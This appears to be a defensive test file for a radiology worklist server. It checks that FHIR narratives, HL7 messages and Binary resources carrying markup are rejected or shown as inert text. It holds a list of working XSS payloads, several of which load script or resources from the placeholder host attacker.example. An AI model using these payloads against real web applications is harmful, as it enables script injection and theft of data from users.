import type { Resource } from '@medplum/fhirtypes';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { orderMessage } from '../../demo/order-message.ts';
import { order, stow, taskEnded } from '../flow/flow-world.ts';
import { tinyStudy } from '../flow/studies.ts';
import { tinyWorld } from '../flow/tiny-world.ts';
import { findChromium, launchChromium } from '../peers/chromium.ts';
import { describeWithPeer } from '../peers/required.ts';
import { fieldOf, sendOrder } from '../peers/ris.ts';
import { analysisResources } from '../worklist/records.ts';

const RUN = 'window.ran=1';
/** What browsers have run when it stood in a page: by element, attribute, address, style, and by being read twice in different ways. */
const MARKUP: readonly string[] = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  '<script src="https://attacker.example/x.js"></script>',
  `<img src="x" onerror="${RUN}"/>`,
  `<img src=x onerror=${RUN}>`,
  `<img/src="x"/onerror="${RUN}"/>`,
  `<img src="data:image/svg+xml,&lt;svg onload='${RUN}'/&gt;"/>`,
  `<svg onload="${RUN}"></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName="x" dur="1s"/></svg>`,
  `<svg><set attributeName="href" to="javascript:${RUN}"/></svg>`,
  `<svg><foreignObject><body onload="${RUN}"/></foreignObject></svg>`,
  '<svg><use href="https://attacker.example/x.svg#a"/></svg>',
  `<math><mtext><table><mglyph><style><img src="x" onerror="${RUN}"></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${RUN}">click</math>`,
  `<iframe src="javascript:parent.ran=1"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;parent.ran=1&lt;/script&gt;"></iframe>`,
  '<iframe src="https://attacker.example/"></iframe>',
  `<a href="javascript:${RUN}">click</a>`,
  `<a href="JaVaScRiPt:${RUN}">click</a>`,
  `<a href="java&#10;script:${RUN}">click</a>`,
  `<a href="&#x6A;avascript:${RUN}">click</a>`,
  '<a href="data:text/html,&lt;script&gt;opener.ran=1&lt;/script&gt;">click</a>',
  `<a href="vbscript:${RUN}">click</a>`,
  '<object data="data:text/html,&lt;script&gt;parent.ran=1&lt;/script&gt;"></object>',
  '<embed src="https://attacker.example/x.swf"/>',
  '<link rel="stylesheet" href="https://attacker.example/x.css"/>',
  '<style>@import "https://attacker.example/x.css";</style>',
  '<p style="background:url(https://attacker.example/x)">x</p>',
  '<p style="behavior:url(x.htc)">x</p>',
  '<meta http-equiv="refresh" content="0;url=https://attacker.example/"/>',
  '<base href="https://attacker.example/"/>',
  '<form action="https://attacker.example/"><input name="x"/><button>send</button></form>',
  `<button formaction="javascript:${RUN}">x</button>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></p></noscript>`,
  `<video><source onerror="${RUN}"/></video>`,
  `<details open="" ontoggle="${RUN}">x</details>`,
  `<body onload="${RUN}">`,
  `<template><script>${RUN}</script></template>`,
];
/** Harmless as XHTML, and not everywhere else. */
const WORDS: readonly string[] = [
  // R4 lets a narrative name a picture elsewhere; nothing of ours asks for it.
  '<img src="https://attacker.example/pixel.png"/>',
  `"><body onload=${RUN}>`,
  `';${RUN};//`,
  `{{constructor.constructor("${RUN}")()}}`,
  `\${${RUN}}`,
  '\u202Egnp.exe',
  `</title><script>${RUN}</script>`,
];
const PAYLOADS = [...MARKUP, ...WORDS];

/** FHIR knows no empty list; the samples are written for a store that does not mind. */
const withoutEmpty = (resource: Resource): unknown =>
  JSON.parse(
    JSON.stringify(resource, (_, value) => (Array.isArray(value) && value.length === 0 ? undefined : value)),
  );

const world = tinyWorld();

describe('T24 at the door', () => {
  const withDiv = (resourceType: string, div: string, more: object = {}) => ({
    resourceType,
    text: { status: 'generated', div: `<div xmlns="http://www.w3.org/1999/xhtml">${div}</div>` },
    ...more,
  });

  it.each(MARKUP)('T24 %s in a narrative is 422', async (payload) => {
    const observation = { status: 'final', code: { text: 'c' } };
    for (const resource of [
      withDiv('Patient', payload),
      withDiv('Observation', `<p>ok</p>${payload}`, observation),
    ]) {
      const answer = await world.server.ask('POST', `/fhir/${resource.resourceType}`, resource);
      expect(answer.status).toBe(422);
      expect(answer.text).not.toContain('attacker.example');
    }
    const contained = {
      resourceType: 'Patient',
      contained: [{ ...withDiv('Organization', payload), id: 'o' }],
      managingOrganization: { reference: '#o' },
    };
    expect((await world.server.ask('POST', '/fhir/Patient', contained)).status).toBe(422);
  });

  it('T24 a narrative of paragraphs and tables is taken', async () => {
    const div =
      '<p class="x">Heart rate <b>72</b></p><table><tr><td>1</td></tr></table><a href="https://hl7.org">x</a>';
    expect((await world.server.ask('POST', '/fhir/Patient', withDiv('Patient', div))).status).toBe(201);
  });
});

describeWithPeer('T24, T25 in a real browser', findChromium() ? null : 'skipped: no Chromium', () => {
  let browser: Browser;
  let context: BrowserContext;
  let page: Page;
  let faults: string[] = [];
  beforeAll(async () => {
    browser = await launchChromium();
  });
  afterAll(() => browser?.close());
  afterEach(async () => {
    await context?.close();
    expect(faults).toEqual([]);
  });

  async function open(headers: Record<string, string> = {}): Promise<void> {
    faults = [];
    context = await browser.newContext({ extraHTTPHeaders: headers, acceptDownloads: true });
    page = await context.newPage();
    page.on('dialog', (dialog) => faults.push(`dialog ${dialog.message()}`));
    page.on('popup', (popup) => faults.push(`popup ${popup.url()}`));
    page.on('pageerror', (error) => faults.push(`error ${error.message}`));
    // A Content-Security-Policy that had to step in is a script that would have run.
    page.on('console', (message) => {
      if (/Content.Security.Policy|Refused to|Trusted ?Type/i.test(message.text()))
        faults.push(message.text());
    });
    page.on('request', (request) => {
      const url = request.url();
      if (!url.startsWith(`${world.server.url}/`) && !url.startsWith('blob:'))
        faults.push(`request to ${url}`);
    });
  }

  it('T24 text that is markup stays text in every field of the worklist, from FHIR, HL7 and DICOM', async () => {
    for (const [i, payload] of PAYLOADS.entries()) await write(payload, i);
    for (const payload of MARKUP.slice(0, 3)) {
      const name = payload.replaceAll('^', '').slice(0, 60);
      const study = tinyStudy({ patientName: `${name}^${name}` });
      await order(world, study);
      await stow(world.server, study.files);
      await taskEnded(world, study, 'completed');
    }
    await open();
    await page.goto(`${world.server.url}/worklist/#token=${world.server.token}`);
    await page.getByRole('option', { selected: true }).waitFor();
    const rows = await page.getByRole('option').count();
    expect(rows).toBeGreaterThanOrEqual(PAYLOADS.length);
    for (let row = 0; row < rows; row += 1) {
      await page.locator('.detail h2').waitFor();
      await page.keyboard.press('j');
    }
    await page.waitForTimeout(300);
    const names = (await page.locator('.row-name').allTextContents()).join('\n');
    for (const payload of PAYLOADS.slice(0, 20)) expect(names).toContain(payload);
    expect(await page.evaluate('window.ran')).toBeUndefined();
    const foreign =
      'script:not([src^="/worklist/"]):not([src^="./"]), iframe, object, embed, math, form[action^="http"], base, [onerror], [onload]';
    expect(
      await page.evaluate(
        `document.querySelectorAll('#page ${foreign.split(', ').join(', #page ')}').length`,
      ),
    ).toBe(0);
    expect(page.url().startsWith(`${world.server.url}/worklist/`)).toBe(true);
  }, 90_000);

  it('T24 markup in a message of the RIS, in OBX-5 and in names, stays text on the operator’s page, masked, shown and raw', async () => {
    const escaped = (text: string) =>
      text
        .replaceAll('\\', '\\E\\')
        .replaceAll('&', '\\T\\')
        .replaceAll('|', '\\F\\')
        .replaceAll('^', '\\S\\')
        .replaceAll('~', '\\R\\');
    const study = tinyStudy();
    const name = escaped(MARKUP[3] ?? '');
    const exam = { ...study.exam, patientName: `${name}^${name}`, procedure: `1^${name}^LN` };
    const texts = PAYLOADS.map((payload, n) => `OBX|${n + 1}|TX|1^${name}||${escaped(payload)}`);
    const message = `${orderMessage(exam, 'T24-OBX', new Date())}${texts.join('\r')}\r`;
    expect(fieldOf(await sendOrder(world.server.mllpPort, message), 'MSA', 2)).toBe('T24-OBX');
    await open();
    await page.goto(`${world.server.url}/operator/#token=${world.server.token}`);
    await page.getByRole('link', { name: 'Messages', exact: true }).click();
    await page.getByRole('button', { name: 'Search' }).click();
    await page.getByRole('link', { name: 'T24-OBX' }).click();
    await page.getByText('Patient identification').waitFor();
    await page.getByRole('button', { name: 'Show patient data' }).click();
    await page.getByRole('button', { name: 'Mask patient data' }).waitFor();
    const shown = (await page.locator('main').textContent()) ?? '';
    for (const payload of PAYLOADS) expect(shown).toContain(payload);
    expect(await page.evaluate('window.ran')).toBeUndefined();
    expect(
      await page.evaluate(
        `document.querySelectorAll('main script, main iframe, main img, main svg:not([class]), main [onerror]').length`,
      ),
    ).toBe(0);
  });

  /** The payload in every text of a row; some are refused, some have failed. */
  async function write(payload: string, i: number): Promise<void> {
    const status = (['completed', 'rejected', 'failed'] as const)[i % 3] ?? 'completed';
    const resources: Resource[] = analysisResources({
      id: `t24-${i}`,
      family: payload,
      given: payload,
      mrn: payload,
      exam: payload,
      started: new Date(Date.now() - i * 60_000),
      status,
      stage: payload,
      model: `${payload}@${payload}`,
      conclusion: payload,
      ...(status === 'rejected'
        ? { refusal: { rule: 'view', text: `x: observed ${payload}; required ${payload}` } }
        : {}),
      ...(status === 'failed' ? { failure: payload } : {}),
      warnings: [payload, `view: observed ${payload}; required ${payload}`],
      findings: [
        {
          label: payload,
          presence: 'present',
          score: 0.9,
          threshold: 0.5,
          actionable: 1,
          sct: ['36118008', payload],
        },
        { label: payload, value: 3, unit: [payload, 'mm'], radlex: ['RID5352', payload] },
      ],
    });
    const entry = resources.map((resource) => ({
      resource: withoutEmpty(resource),
      request: { method: 'PUT', url: `${resource.resourceType}/${resource.id}` },
    }));
    const answer = await world.server.ask('POST', '/fhir', {
      resourceType: 'Bundle',
      type: 'transaction',
      entry,
    });
    expect(answer.status, answer.text.slice(0, 500)).toBe(200);
  }

  it.each([
    ['text/html', `<script>document.title='ran'</script>`],
    [
      'application/xhtml+xml',
      `<html xmlns="http://www.w3.org/1999/xhtml"><script>document.title='ran'</script></html>`,
    ],
    ['image/svg+xml', `<svg xmlns="http://www.w3.org/2000/svg" onload="document.title='ran'"/>`],
    ['text/xml', '<x/>'],
    ['application/javascript', 'document.title="ran"'],
    ['text/html; charset=utf-7', '+ADw-script+AD4-document.title="ran"+ADw-/script+AD4-'],
    ['image/png, text/html', '<script>document.title="ran"</script>'],
    [
      'multipart/x-mixed-replace;boundary=x',
      '--x\r\nContent-Type: text/html\r\n\r\n<script>document.title="ran"</script>',
    ],
  ])(
    'T25 a Binary of %s is downloaded when a page is asked for, and shown nowhere',
    async (contentType, content) => {
      const id = `t25-${contentType.replace(/\W+/g, '-')}`;
      const put = await world.server.ask('PUT', `/fhir/Binary/${id}`, {
        resourceType: 'Binary',
        id,
        contentType,
        data: Buffer.from(content).toString('base64'),
      });
      expect([201, 422]).toContain(put.status);
      if (put.status === 422) return;
      const answer = await world.server.ask('GET', `/fhir/Binary/${id}`, undefined, { accept: 'text/html' });
      expect(answer.headers.get('content-disposition')).toBe('attachment');
      expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
      expect(answer.headers.get('content-security-policy')).toBe('sandbox');

      await open({ authorization: `Bearer ${world.server.token}` });
      const download = page.waitForEvent('download');
      await page.goto(`${world.server.url}/fhir/Binary/${id}`).catch(() => undefined);
      expect((await download).url()).toContain(id);
      expect(await page.title()).not.toBe('ran');
    },
  );

  it.each([
    ['image/png', '<script>document.title="ran"</script>'],
    ['text/plain', '<script>document.title="ran"</script>'],
  ])('T25 HTML that calls itself %s is not taken for HTML', async (contentType, content) => {
    const id = `t25-as-${contentType.replace(/\W+/g, '-')}`;
    await world.server.ask('PUT', `/fhir/Binary/${id}`, {
      resourceType: 'Binary',
      id,
      contentType,
      data: Buffer.from(content).toString('base64'),
    });
    await open({ authorization: `Bearer ${world.server.token}` });
    await page.goto(`${world.server.url}/fhir/Binary/${id}`);
    expect(await page.title()).not.toBe('ran');
    expect(await page.evaluate('document.contentType')).toBe(contentType);
  });
});
